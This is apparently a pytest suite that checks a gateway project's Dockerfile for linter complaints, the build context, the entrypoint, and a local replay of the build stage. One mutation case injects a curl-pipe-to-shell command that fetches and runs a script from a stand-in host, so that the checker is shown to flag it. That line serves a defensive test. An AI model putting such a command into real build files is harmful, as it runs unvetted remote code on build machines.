"""The image, as far as it can be judged without an engine: read, checked, its Python part built."""

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.deploy.dockerfile import Stage, complaints, context, stages
from tests.deploy.shipped import adapted, shipped
from tests.kit.processes import ROOT

TEXT = shipped("Dockerfile")
FILES = context(ROOT, shipped("Dockerfile.dockerignore"))
STAGES = stages(TEXT)


def test_there_is_nothing_to_complain_about() -> None:
    assert complaints(TEXT, FILES) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("PYTHON=3.13.14-slim-bookworm", "PYTHON=slim"),
        ("USER 10001:10001", "USER onegate"),
        ("USER 10001:10001", "USER 0:0"),
        ("COPY gateway gateway", "COPY gatewy gateway"),
        ("COPY gateway gateway", "COPY tests/kit gateway"),
        ("COPY gateway gateway", "ADD gateway gateway"),
        ("--from=build", "--from=built"),
        ('CMD ["serve", "-c", "/config/onegate.yaml"]', "CMD serve"),
        ('CMD ["onegate", "health"]', "CMD onegate health"),
        (" --no-install-recommends", ""),
        ("    && rm -rf /var/lib/apt/lists/*", "    && true"),
        ("uv==0.13.9", "uv"),
        ("WORKDIR /src", "WORKDIR src"),
        ("ENV HOME=/home/onegate", "ENV TOKEN=abc HOME=/home/onegate"),
        ("RUN apt-get update", "RUN curl https://x.example/i.sh | sh; apt-get update"),
        ("    && /opt/onegate/bin/onegate --version", "    && ( true"),
    ],
)
def test_each_check_sees_what_it_is_for(old: str, new: str) -> None:
    assert complaints(adapted(TEXT, {old: new}), FILES)


def test_the_build_sees_the_whole_package_and_nothing_of_a_checkout() -> None:
    listed = subprocess.run(
        ["git", "ls-files", "gateway"], cwd=ROOT, capture_output=True, text=True
    )
    if listed.returncode:
        pytest.skip("not a git checkout")

    assert set(listed.stdout.split()) <= FILES
    assert {file.split("/")[0] for file in FILES} == {
        "gateway", "pyproject.toml", "README.md", "LICENSE", "tests",
    }  # fmt: skip
    assert [file for file in FILES if file.startswith("tests")] == ["tests/locked/run.txt"]
    assert not [file for file in FILES if "__pycache__" in file]


def test_the_container_starts_serve_under_a_process_that_reaps() -> None:
    last = STAGES[-1]
    (entry,), (command,) = last.of("ENTRYPOINT"), last.of("CMD")

    assert json.loads(entry.rest) == ["/usr/bin/tini", "--", "onegate"]
    assert json.loads(command.rest) == ["serve", "-c", "/config/onegate.yaml"]
    environment = " ".join(step.rest for step in last.of("ENV"))
    assert "ONEGATE_CONFIG=/config/onegate.yaml" in environment  # for the health check


@pytest.mark.timeout(400)
def test_the_python_steps_build_a_gateway_and_uv(tmp_path: Path) -> None:
    """The stage `build`, instruction by instruction, in a folder instead of a container."""
    (stage,) = [each for each in STAGES if each.name == "build"]
    opt = _replayed(stage, tmp_path)
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path)}

    def said(*argv: object) -> str:
        done = subprocess.run(
            [*map(str, argv)], cwd=tmp_path, env=environment,
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    assert "onegate" in said(opt / "onegate/bin/onegate", "--version")
    assert "servers" in said(opt / "onegate/bin/onegate", "schema")
    assert said(opt / "uv/bin/uv", "--version").startswith("uv 0.")
    assert said(opt / "uv/bin/uvx", "--version").startswith("uvx 0.")
    installed = said(opt / "onegate/bin/python", "-m", "pip", "list", "--format=freeze")
    assert "pytest" not in installed


def _replayed(stage: Stage, folder: Path) -> Path:
    """Carry out a stage's instructions below a folder. Returns what became of /opt there."""
    source, opt = folder / "src", folder / "opt"
    source.mkdir()
    settings = dict(os.environ)
    for step in stage.steps:
        if step.word == "ENV":
            settings |= dict(each.split("=", 1) for each in step.rest.split())
            settings.pop("PIP_NO_CACHE_DIR", None)  # keeps images small, and tests slow
            settings["PIP_NO_COMPILE"] = "1"
        elif step.word == "COPY":
            *names, target = step.rest.split()
            for name in names:
                _copied(ROOT / name, source / target)
        elif step.word == "RUN":
            done = subprocess.run(
                ["sh", "-euc", step.rest.replace("/opt/", f"{opt}/")],
                cwd=source, env=settings, capture_output=True, text=True, timeout=300,
            )  # fmt: skip
            assert done.returncode == 0, f"{step}\n{done.stdout}\n{done.stderr}"
    return opt


def _copied(source: Path, target: Path) -> None:
    if source.is_dir():
        shutil.copytree(source, target, ignore=shutil.ignore_patterns("__pycache__"))
    else:
        shutil.copy(source, target)
